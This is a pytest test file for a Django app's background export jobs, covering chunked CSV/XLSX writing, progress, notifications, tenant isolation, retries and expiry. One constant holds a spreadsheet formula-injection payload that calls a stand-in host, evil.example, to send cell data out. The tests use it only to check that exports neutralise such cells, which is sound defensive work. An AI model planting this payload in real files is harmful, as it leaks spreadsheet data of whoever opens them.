"""Export jobs: a small export still downloads at once; a large one becomes a job that a worker writes in
chunks (safe cells, progress, a notification with the link); other tenants and roles see nothing of it; a
failure is recorded on the job, and a retry (or a redelivered task) writes one file and one notification."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client, TestCase
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from acorn.exports import services as export_services
from acorn.exports.models import ExportJob
from acorn.exports.registry import _KINDS as REGISTERED_KINDS
from acorn.exports.registry import ExportKind, TableExport, register_export_kind
from acorn.exports.services import export_job_run, exports_expire
from acorn.notifications.models import Notification
from acorn.tenancy.models import Membership, Role, Tenant
from acorn.tenancy.scoping import tenant_scope
from inventory import services as inventory_services
from orders.services import order_upsert_page
from tests.channels.test_sync_engine import make_order
from tests.conftest import EnqueuedTasks
from tests.factories import StoreFactory
from tests.finance import console_data as finance_data
from tests.inventory.test_mappings import EXPORT_URL as MAPPING_EXPORT_URL
from tests.inventory.test_mappings import _catalogue
from tests.refunds.test_console import make_refund

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _no_broker(enqueued: EnqueuedTasks) -> EnqueuedTasks:
    """Tasks queued by the code under test are recorded, never sent to the test broker."""
    return enqueued


ORDERS_URL = "/app/orders/"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _orders(tenant: Tenant, count: int, *, first: int = 1) -> None:
    """`count` orders of one line each; the first line's title is a formula a spreadsheet would run."""
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant)
        orders = [make_order(n) for n in range(first, first + count)]
        orders[0] = replace(orders[0], lines=(replace(orders[0].lines[0], title=HYPERLINK),))
        order_upsert_page(store=store, orders=orders)


def django_capture_on_commit() -> Any:
    return TestCase.captureOnCommitCallbacks(execute=True)


@pytest.fixture
def committed(django_capture_on_commit_callbacks: Any) -> Callable[..., Any]:
    """Call a function and run what it queued for after the commit (the test's transaction never commits)."""

    def call(function: Callable[..., Any], *args: Any, **kwargs: Any) -> Any:
        with django_capture_on_commit_callbacks(execute=True):
            return function(*args, **kwargs)

    return call


def _job(tenant: Tenant) -> ExportJob:
    with tenant_scope(tenant):
        return ExportJob.objects.get()


def _run(enqueued: EnqueuedTasks) -> None:
    tasks = [task.name for task, _kwargs in enqueued]
    assert tasks == ["exports.run_export_job"]
    enqueued.run_all()


def _content(job: ExportJob) -> bytes:
    with job.document.open("rb") as handle:
        return handle.read()


def test_a_small_export_still_downloads_in_the_request(owner_client: Client, tenant: Tenant) -> None:
    # given: two orders, far below the threshold
    _orders(tenant, 2)

    # when
    response = owner_client.get(ORDERS_URL + "export.csv")

    # then: the file itself, and no job
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert HYPERLINK not in b"".join(response.streaming_content).decode()
    with tenant_scope(tenant):
        assert not ExportJob.objects.exists()


def test_a_large_export_becomes_a_job_the_worker_writes_with_safe_cells(
    owner_client: Client,
    owner: Membership,
    tenant: Tenant,
    enqueued: EnqueuedTasks,
    settings: Any,
    committed: Callable[..., Any],
) -> None:
    # given: three orders and a threshold of two
    settings.ACORN_EXPORT_INLINE_ROWS = 2
    _orders(tenant, 3)

    # when: the owner exports, filtered by status (the filters travel with the job)
    response = committed(owner_client.get, ORDERS_URL + "export.csv", {"status": "paid_unshipped"})

    # then: sent to the export's page, the job queued on the exports queue with its filters
    job = _job(tenant)
    assert response.status_code == 302 and response["Location"] == reverse("exports:export-detail", args=[job.pk])
    assert (job.status, job.kind, job.file_format, job.params["status"]) == (
        "queued",
        "orders",
        "csv",
        "paid_unshipped",
    )
    assert "exports.run_export_job" in {
        name for name, route in settings.CELERY_TASK_ROUTES.items() if route["queue"] == "exports"
    }
    page = owner_client.get(reverse("exports:export-detail", args=[job.pk])).content.decode()
    assert "Waiting for a worker" in page and 'hx-trigger="every 2s"' in page

    # when: the worker runs it
    _run(enqueued)

    # then: every line, the formula neutralised, progress complete, the file on the storage
    job = _job(tenant)
    assert (job.status, job.row_count, job.progress_done, job.progress_total) == ("done", 3, 3, 3)
    rows = list(csv.DictReader(io.StringIO(_content(job).decode("utf-8").removeprefix("\ufeff"))))
    assert sorted(row["Order id"] for row in rows) == ["111-0000001", "111-0000002", "111-0000003"]
    assert "'" + HYPERLINK in {row["Title"] for row in rows}
    assert job.expires_at is not None and job.expires_at - job.finished_at == timedelta(days=7)

    # and: the owner is told, with the download link, which serves the file
    with tenant_scope(tenant):
        notification = Notification.objects.get(kind="export_ready")
    download = reverse("exports:export-download", args=[job.pk])
    assert notification.recipient == owner.user and notification.link == download
    served = owner_client.get(download)
    assert served.status_code == 200 and b"".join(served.streaming_content) == _content(job)
    assert "attachment" in served["Content-Disposition"] and job.filename in served["Content-Disposition"]
    progress = owner_client.get(reverse("exports:export-detail", args=[job.pk]), headers={"HX-Request": "true"})
    assert download in progress.content.decode() and "hx-trigger" not in progress.content.decode()
    assert download in owner_client.get(reverse("exports:export-list")).content.decode()


def test_a_large_xlsx_export_types_text_as_strings(
    owner_client: Client, tenant: Tenant, enqueued: EnqueuedTasks, settings: Any, committed: Callable[..., Any]
) -> None:
    settings.ACORN_EXPORT_INLINE_ROWS = 1
    _orders(tenant, 2)
    committed(owner_client.get, ORDERS_URL + "export.xlsx")
    _run(enqueued)
    job = _job(tenant)
    sheet = load_workbook(io.BytesIO(_content(job))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert sheet.max_row == 3


@pytest.fixture
def test_kind() -> Iterator[dict[str, Any]]:
    """A registered export kind whose records a test controls (and that can fail halfway)."""
    state: dict[str, Any] = {"records": 4, "fail_at": None, "seen_progress": []}

    def records(tenant: Tenant, params: Any) -> Iterator[Sequence[Sequence[Any]]]:
        for n in range(state["records"]):
            if state["fail_at"] == n:
                raise RuntimeError("the database went away")
            with tenant_scope(tenant):
                state["seen_progress"].append(ExportJob.objects.get().progress_done)
            yield [[n, f"row {n}"]]

    register_export_kind(
        ExportKind(
            key="test_rows",
            label="Test rows",
            permission="orders.export",
            formats=("csv",),
            filename_stem="test-rows",
            count=lambda tenant, params: state["records"],
            table=TableExport(header=lambda tenant, params: ["n", "text"], records=records, sheet_title=lambda: "Rows"),
        )
    )
    yield state
    REGISTERED_KINDS.pop("test_rows", None)


def _request(tenant: Tenant, owner: Membership, kind: str = "test_rows") -> ExportJob:
    with tenant_scope(tenant), django_capture_on_commit():
        return export_services.export_job_request(
            tenant=tenant, membership=owner, kind=kind, file_format="csv", params={}, language="en"
        )


def test_progress_is_written_as_records_go(
    tenant: Tenant, owner: Membership, test_kind: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_services, "PROGRESS_EVERY", 1)
    job = _request(tenant, owner)
    with tenant_scope(tenant):
        export_job_run(job=job)
    # each record saw the count of the ones before it on the job's row
    assert test_kind["seen_progress"] == [0, 1, 2, 3]
    assert _job(tenant).percent == 100


def test_a_failed_export_says_why_and_a_retry_writes_one_file(
    owner_client: Client,
    tenant: Tenant,
    owner: Membership,
    test_kind: dict[str, Any],
    enqueued: EnqueuedTasks,
    committed: Callable[..., Any],
) -> None:
    # given: a job whose records fail halfway
    test_kind["fail_at"] = 2
    job = _request(tenant, owner)
    enqueued.run_all()

    # then: failed, with the reason, no file and no notification
    job = _job(tenant)
    assert job.status == "failed" and "the database went away" in job.error and not job.document
    detail = owner_client.get(reverse("exports:export-detail", args=[job.pk])).content.decode()
    assert "The export failed." in detail and "the database went away" in detail
    assert owner_client.get(reverse("exports:export-download", args=[job.pk])).status_code == 404

    # when: the cause is gone and the person retries twice (a double click)
    test_kind["fail_at"] = None
    retry = reverse("exports:export-retry", args=[job.pk])
    assert committed(owner_client.post, retry).status_code == 302
    assert committed(owner_client.post, retry).status_code == 302
    assert [task.name for task, _kwargs in enqueued] == ["exports.run_export_job"]  # queued once
    enqueued.run_all()

    # and: the task is delivered again after it finished (acks_late)
    with tenant_scope(tenant):
        export_job_run(job=_job(tenant))

    # then: done once, one file, one notification
    job = _job(tenant)
    assert (job.status, job.row_count, job.error, job.attempts) == ("done", 4, "", 2)
    assert _content(job).decode().removeprefix("\ufeff").splitlines() == [
        "n,text",
        "0,row 0",
        "1,row 1",
        "2,row 2",
        "3,row 3",
    ]
    with tenant_scope(tenant):
        assert Notification.objects.filter(kind="export_ready").count() == 1


def test_an_abandoned_running_job_is_taken_over(tenant: Tenant, owner: Membership, test_kind: dict[str, Any]) -> None:
    job = _request(tenant, owner)
    with tenant_scope(tenant):
        ExportJob.objects.filter(pk=job.pk).update(status="running", started_at=timezone.now())
        assert export_job_run(job=job).status == "running"  # a live run: left alone
        ExportJob.objects.filter(pk=job.pk).update(started_at=timezone.now() - timedelta(hours=1))
        assert export_job_run(job=job).status == "done"  # its worker died: taken over


def test_a_double_click_queues_one_job(tenant: Tenant, owner: Membership, test_kind: dict[str, Any]) -> None:
    first = _request(tenant, owner)
    assert _request(tenant, owner).pk == first.pk


def test_other_tenants_and_other_roles_see_nothing(
    tenant: Tenant,
    owner: Membership,
    other_owner: Membership,
    make_member: Callable[..., Membership],
    client_for: Callable[[Membership], Client],
    test_kind: dict[str, Any],
) -> None:
    # given: a finished export of tenant A
    job = _request(tenant, owner)
    with tenant_scope(tenant):
        export_job_run(job=job)
    urls = [reverse(f"exports:export-{view}", args=[job.pk]) for view in ("detail", "download", "retry")]

    # then: B's owner gets 404 everywhere and an empty list
    theirs = client_for(other_owner)
    for url in urls:
        assert theirs.get(url).status_code in (404, 405)
        assert theirs.post(url).status_code in (404, 405)
    listing = theirs.get(reverse("exports:export-list")).content.decode()
    assert reverse("exports:export-download", args=[job.pk]) not in listing and "No exports yet" in listing

    # and: A's customer service, who may not export orders, does not see an order export either
    support = client_for(make_member(tenant, Role.SUPPORT))
    assert support.get(urls[0]).status_code == 404 and support.get(urls[1]).status_code == 404


def test_expired_files_are_removed(
    tenant: Tenant, owner: Membership, owner_client: Client, test_kind: dict[str, Any]
) -> None:
    job = _request(tenant, owner)
    with tenant_scope(tenant):
        job = export_job_run(job=job)
    name = job.document.name
    assert job.document.storage.exists(name)
    assert exports_expire(now=timezone.now()) == 0  # not yet
    assert exports_expire(now=job.expires_at + timedelta(seconds=1)) == 1
    job = _job(tenant)
    assert job.status == "expired" and not job.document and not job.document.storage.exists(name)
    assert owner_client.get(reverse("exports:export-download", args=[job.pk])).status_code == 404
    assert exports_expire(now=job.expires_at + timedelta(seconds=1)) == 0  # twice: nothing more


def test_the_notification_speaks_the_requesters_language(
    tenant: Tenant, owner: Membership, test_kind: dict[str, Any]
) -> None:
    with tenant_scope(tenant):
        job = export_services.export_job_request(
            tenant=tenant, membership=owner, kind="test_rows", file_format="csv", params={}, language="zh-hans"
        )
        export_job_run(job=job)
        notification = Notification.objects.get()
    assert notification.title.startswith("导出")


def test_the_exports_list_pages(owner_client: Client, tenant: Tenant, owner: Membership) -> None:
    with tenant_scope(tenant):
        ExportJob.objects.bulk_create(
            [ExportJob(tenant=tenant, kind="orders", file_format="csv", requested_by=owner.user) for _ in range(30)]
        )
    first = owner_client.get(reverse("exports:export-list")).content.decode()
    assert "1 / 2" in first
    assert owner_client.get(reverse("exports:export-list"), {"page": 2}).status_code == 200


def test_a_large_refund_export_runs_on_the_same_jobs(
    owner_client: Client, tenant: Tenant, enqueued: EnqueuedTasks, settings: Any, committed: Callable[..., Any]
) -> None:
    # given: three refunds (one with two lines and a buyer's formula), a threshold of two
    settings.ACORN_EXPORT_INLINE_ROWS = 2
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant)
        make_refund(store, 1, customer_comment=HYPERLINK, lines=[("SKU-1", 1), ("SKU-2", 1)])
        make_refund(store, 2)
        make_refund(store, 3)

    # when: filtered by status, the job follows the filters
    response = committed(owner_client.get, "/app/refunds/export.csv", {"status": "succeeded"})
    job = _job(tenant)
    assert response.status_code == 302 and (job.kind, job.params["status"]) == ("refunds", "succeeded")
    _run(enqueued)

    # then: one row per refund line, the comment neutralised
    job = _job(tenant)
    assert (job.status, job.progress_done, job.row_count) == ("done", 3, 4)
    text = _content(job).decode("utf-8")
    assert "'" + HYPERLINK.replace('"', '""') in text and '"' + HYPERLINK.replace('"', '""') not in text


def test_a_large_mapping_export_runs_on_the_same_jobs(
    owner_client: Client, tenant: Tenant, enqueued: EnqueuedTasks, settings: Any, committed: Callable[..., Any]
) -> None:
    # given: three mappings in one store and one in another, a threshold of two
    settings.ACORN_EXPORT_INLINE_ROWS = 2
    store, mug, lid = _catalogue(tenant)
    with tenant_scope(tenant):
        other_store = StoreFactory(tenant=tenant, name="Shopify EU")
        for sku in (HYPERLINK, "MUG-A", "MUG-B"):
            inventory_services.mapping_create(store=store, product=mug, channel_sku=sku)
        inventory_services.mapping_create(store=other_store, product=lid, channel_sku="LID-EU")

    # when: the mappings of the first store are exported
    response = committed(owner_client.get, MAPPING_EXPORT_URL, {"store": store.pk})
    job = _job(tenant)
    assert response.status_code == 302 and job.params == {"query": "", "store_id": store.pk}
    _run(enqueued)

    # then: that store's mappings, in the file the import reads back
    rows = list(csv.DictReader(io.StringIO(_content(_job(tenant)).decode("utf-8").removeprefix("\ufeff"))))
    assert sorted(row["channel_sku"] for row in rows) == sorted(["'" + HYPERLINK, "MUG-A", "MUG-B"])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_large_statement_line_export_runs_on_the_same_jobs(
    owner_client: Client,
    tenant: Tenant,
    enqueued: EnqueuedTasks,
    settings: Any,
    committed: Callable[..., Any],
    file_format: str,
) -> None:
    # given: a statement whose unknown fee is named like a formula, and a threshold below its lines
    settings.ACORN_EXPORT_INLINE_ROWS = 2
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, name="Amazon NA")
        finance_data.make_order(store, "111-1", "25.00", shipping="4.99")
        settlement = finance_data.import_statement(
            store, lines=finance_data.statement_lines(unknown_description=HYPERLINK)
        )

    # when
    response = committed(owner_client.get, reverse("finance:settlement-export", args=[settlement.pk, file_format]))
    job = _job(tenant)
    assert response.status_code == 302 and job.params == {"settlement_id": settlement.pk}
    _run(enqueued)

    # then: every line, the description neutralised, amounts as numbers
    job = _job(tenant)
    assert (job.status, job.row_count, job.progress_total) == ("done", settlement.line_count, settlement.line_count)
    if file_format == "csv":
        rows = list(csv.DictReader(io.StringIO(_content(job).decode("utf-8").removeprefix("\ufeff"))))
        assert rows[-1]["Description"] == "'" + HYPERLINK and rows[-1]["Amount"] == "-0.30"
    else:
        sheet = load_workbook(io.BytesIO(_content(job))).worksheets[0]
        last = list(sheet.iter_rows())[-1]
        assert any(cell.value == HYPERLINK and cell.data_type == "s" for cell in last)
        assert last[-1].data_type == "n"


def test_a_large_not_yet_settled_export_runs_on_the_same_jobs(
    owner_client: Client, tenant: Tenant, enqueued: EnqueuedTasks, settings: Any, committed: Callable[..., Any]
) -> None:
    settings.ACORN_EXPORT_INLINE_ROWS = 1
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, name="Amazon NA")
        for external_id in ("222-OLD", "223-OLD"):
            finance_data.make_order(store, external_id, "40.00", days_ago=45)
        finance_data.make_order(store, "333-NEW", "40.00", days_ago=10)  # too recent to expect a settlement
        finance_data.import_statement(store)  # the store has statements: its old unpaid orders are expected
    response = committed(owner_client.get, reverse("finance:not-yet-settled-export"), {"store": store.pk})
    assert response.status_code == 302
    _run(enqueued)
    lines = _content(_job(tenant)).decode("utf-8").removeprefix("\ufeff").strip().splitlines()
    assert lines[0].startswith("Order id,Store") and sorted(line[:7] for line in lines[1:]) == ["222-OLD", "223-OLD"]


def test_the_export_task_goes_to_the_exports_queue_which_every_worker_consumes() -> None:
    from pathlib import Path

    from django.conf import settings as django_settings

    from acorn.celery import app

    app.loader.import_default_modules()
    assert app.amqp.router.route({}, "exports.run_export_job")["queue"].name == "exports"
    for name in ("Procfile", "Procfile.dev", "docker-compose.yml"):
        text = (Path(django_settings.BASE_DIR) / name).read_text()
        workers = [line for line in text.splitlines() if "celery -A acorn worker" in line]
        assert workers and all("exports" in line.split("--queues=")[1].split()[0].split(",") for line in workers)


def test_a_job_whose_task_was_lost_is_sent_again(
    tenant: Tenant, owner: Membership, test_kind: dict[str, Any], enqueued: EnqueuedTasks
) -> None:
    # given: a job queued 20 minutes ago whose message never reached a worker, and a fresh one
    job = _request(tenant, owner)
    enqueued.clear()
    with tenant_scope(tenant):
        ExportJob.objects.filter(pk=job.pk).update(created_at=timezone.now() - timedelta(minutes=20))

    # when: the hourly housekeeping runs, with nothing in scope
    assert export_services.exports_requeue_lost() == 1

    # then: its task is sent again, and runs it
    assert [(task.name, kwargs) for task, kwargs in enqueued] == [
        ("exports.run_export_job", {"tenant_id": tenant.pk, "job_id": job.pk})
    ]
    enqueued.run_all()
    assert _job(tenant).status == "done"
    assert export_services.exports_requeue_lost() == 0


def test_the_exports_pages_speak_chinese(owner_client: Client, tenant: Tenant, owner: Membership) -> None:
    with tenant_scope(tenant):
        job = ExportJob.objects.create(tenant=tenant, kind="orders", file_format="csv", requested_by=owner.user)
    owner_client.post(reverse("set_language"), {"language": "zh-hans", "next": "/app/"})
    listing = owner_client.get(reverse("exports:export-list")).content.decode()
    assert "最近的导出" in listing and "还没有导出" not in listing
    detail = owner_client.get(reverse("exports:export-detail", args=[job.pk])).content.decode()
    assert "正在等待后台任务开始导出" in detail
    assert "公司数据" in owner_client.get(reverse("tenancy:company")).content.decode()
